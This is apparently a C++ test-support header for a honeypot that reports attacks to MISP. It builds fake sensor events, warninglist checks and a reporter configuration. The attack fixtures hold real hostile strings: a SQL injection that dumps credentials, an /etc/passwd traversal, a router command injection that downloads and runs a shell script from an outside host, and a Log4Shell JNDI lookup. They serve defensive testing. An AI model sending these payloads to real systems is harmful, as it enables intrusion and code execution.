// Events and a reporter set-up for the MISP tests: sensor events as the collector stores them,
// a day of mixed attacks (documentation addresses are warninglisted, so attackers here use
// public addresses that no shipped list holds), and a Reporter over a FakeStore with the
// shipped MISP data.
#pragma once

#include <memory>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "core/classify.h"
#include "core/event.h"
#include "fake_store.h"
#include "intel/feed_transport.h"
#include "intel/reporter.h"
#include "intel/rest_transport.h"
#include "misp_checks.h"

namespace drosera::testutil {

// 2025-03-14 00:00:00 UTC.
inline constexpr int64_t kDay = 1741910400ll * 1000000;
inline constexpr int64_t kHour = 3600ll * 1000000;
inline constexpr const char* kNamespace = "3f1c6c0e-8d7a-4a57-9d2b-6f0e1a2b3c4d";
inline constexpr const char* kOrgUuid = "5f6e7d8c-1b2a-4c3d-9e8f-0a1b2c3d4e5f";

inline core::RuleHit rule(int id, const std::string& msg, std::vector<std::string> tags = {}) {
  core::RuleHit r;
  r.id = id;
  r.message = msg;
  r.tags = std::move(tags);
  return r;
}

using nlohmann::json;

inline core::Event event(const std::string& sensor, const std::string& ip, int64_t time_us,
                         const std::string& method, const std::string& uri,
                         std::vector<core::RuleHit> rules = {},
                         std::vector<core::TrapHit> traps = {}) {
  static int n = 1000;
  core::Event e;
  e.sensor = sensor;
  e.unique_id = "req-" + std::to_string(++n);
  e.format = "drosera";
  e.time_us = time_us;
  e.src_ip = ip;
  e.src_port = 40000;
  e.dst_ip = "10.20.0.5";  // the sensor's own (private) address
  e.dst_port = 80;
  e.method = method;
  e.uri = uri;
  e.host = "shop.example.com";
  e.user_agent = "Mozilla/5.0 (X11; Linux x86_64)";
  e.status = 200;
  e.rules = std::move(rules);
  e.traps = std::move(traps);
  e.categories = core::classify(e.rules, e.traps);
  return e;
}

inline core::TrapHit trap(const std::string& kind, const std::string& captured = "") {
  core::TrapHit t;
  t.kind = kind;
  t.bait = "bait-" + kind;
  t.captured = captured;
  return t;
}

// Attackers (public addresses in no shipped warninglist).
inline const char* kSqli = "45.33.32.156";
inline const char* kRce = "185.220.101.34";
inline const char* kScanner = "91.240.118.172";
inline const char* kV6 = "2a02:c207:2030:1234::1";

// One day of attacks on sensor hp-web-01 (and one event on hp-web-02), with warninglisted
// sources mixed in: RFC 1918, documentation nets, Censys and Shodan scanners, the sensor
// itself.
inline std::vector<core::Event> dayOfAttacks(int64_t day = kDay) {
  std::vector<core::Event> v;
  const std::string s = "hp-web-01";
  v.push_back(event(s, kSqli, day + 10 * kHour, "GET",
                    "/products.php?id=1' UNION SELECT username,password FROM users-- -",
                    {rule(942100, "SQL Injection Attack Detected via libinjection"),
                     rule(949110, "Inbound Anomaly Score Exceeded")}));
  v.push_back(event(s, kSqli, day + 10 * kHour + 5000000, "GET", "/products.php?id=2 OR 1=1",
                    {rule(942100, "SQL Injection Attack Detected via libinjection")}));
  v.push_back(event(s, kSqli, day + 11 * kHour, "GET", "/index.php?file=../../../../etc/passwd",
                    {rule(930120, "OS File Access Attempt", {"attack-lfi"})}));
  v.push_back(event(s, kRce, day + 11 * kHour + 30000000, "POST",
                    "/cgi-bin/luci;stok=/locale?form=country&operation=write&country=$(cd%20/tmp;"
                    "wget%20http://45.61.185.23/bins/x86.sh;sh%20x86.sh)",
                    {rule(932100, "Remote Command Execution: Unix Command Injection")}));
  v.push_back(event(s, kRce, day + 11 * kHour + 31000000, "GET",
                    "/?x=${jndi:ldap://payload.example.net:1389/a}",
                    {rule(944150, "Potential Remote Command Execution: Log4j / Log4shell")}));
  v.push_back(event(s, kScanner, day + 2 * kHour, "GET", "/.env", {}, {trap("sensitive_file")}));
  v.push_back(event(s, kScanner, day + 2 * kHour + 1000000, "GET", "/.git/config", {},
                    {trap("sensitive_file")}));
  v.push_back(
      event(s, kScanner, day + 2 * kHour + 2000000, "GET", "/secret-admin/", {}, {trap("robots")}));
  v.push_back(event(s, kScanner, day + 3 * kHour, "POST", "/wp-login.php?log=admin&pwd=hunter2", {},
                    {trap("admin_login", "admin:hunter2")}));
  v.push_back(event(s, kV6, day + 4 * kHour, "GET", "/",
                    {rule(920350, "Host header is a numeric IP address")}));
  v.push_back(event("hp-web-02", "8.8.4.4", day + 5 * kHour, "FOO", "/bad",
                    {rule(920100, "Invalid HTTP Request Line")}));
  // Never reported.
  v.push_back(event(s, "10.1.2.3", day + 6 * kHour, "GET", "/?id=1'", {rule(942100, "SQLi")}));
  v.push_back(event(s, "203.0.113.45", day + 6 * kHour, "GET", "/?id=1'", {rule(942100, "SQLi")}));
  v.push_back(event(s, "162.142.125.7", day + 6 * kHour, "GET", "/", {}, {trap("fake_port")}));
  v.push_back(
      event(s, "66.240.192.138", day + 6 * kHour, "GET", "/?a=<script>", {rule(941100, "XSS")}));
  v.push_back(event(s, "10.20.0.5", day + 6 * kHour, "GET", "/?id=1'", {rule(942100, "SQLi")}));
  v.push_back(event(s, "80.82.77.139", day + 6 * kHour, "GET", "/x",
                    {rule(942100, "SQLi")}));  // allowlisted
  // Plain traffic: no evidence, not reported by default.
  v.push_back(event(s, "77.88.5.5", day + 7 * kHour, "GET", "/"));
  // The same ids on every call: two stores fed with this day hold the same events.
  for (size_t i = 0; i < v.size(); ++i) v[i].unique_id = "req-" + std::to_string(i + 1);
  return v;
}

// Two MISP states (fake_misp.h) or feeds compared; on a difference, only the JSON patch between
// them is printed.
inline ::testing::AssertionResult sameJson(const json& a, const json& b) {
  if (a == b) return ::testing::AssertionSuccess();
  std::string patch = json::diff(a, b).dump();
  if (patch.size() > 4000) patch = patch.substr(0, 4000) + "...";
  return ::testing::AssertionFailure() << "differ: " << patch;
}

// The addresses that must never appear anywhere in the output.
inline std::vector<std::string> forbiddenAddresses() {
  return {"10.1.2.3",       "203.0.113.45", "162.142.125.7",
          "66.240.192.138", "10.20.0.5",    "80.82.77.139"};
}

inline intel::MispConfig baseConfig() {
  intel::MispConfig c;
  c.namespace_uuid = kNamespace;
  c.org_uuid = kOrgUuid;
  c.org_name = "Example Honeypot Operator";
  c.misp_data_dir = mispDataDir();
  c.warninglist_dirs = {mispDataDir() + "/warninglists"};
  c.allowlist = {"80.82.77.0/24"};
  c.batch_size = 4;  // several batches per day in the tests
  return c;
}

// Loaded once per test binary and copied: the crash-at-every-step loops build hundreds of
// reporters, and parsing the MISP folder for each was most of their time.
inline intel::MispCatalog catalog() {
  static const intel::MispCatalog loaded = [] {
    auto c = intel::MispCatalog::load(mispDataDir());
    EXPECT_TRUE(c.isOk()) << c.status().toString();
    return c.isOk() ? std::move(*c) : intel::MispCatalog();
  }();
  return loaded;
}

inline intel::Warninglists warninglists() {
  static const intel::Warninglists loaded = [] {
    intel::Warninglists w;
    EXPECT_TRUE(w.loadDirectory(mispDataDir() + "/warninglists").isOk());
    return w;
  }();
  return loaded;
}

}  // namespace drosera::testutil
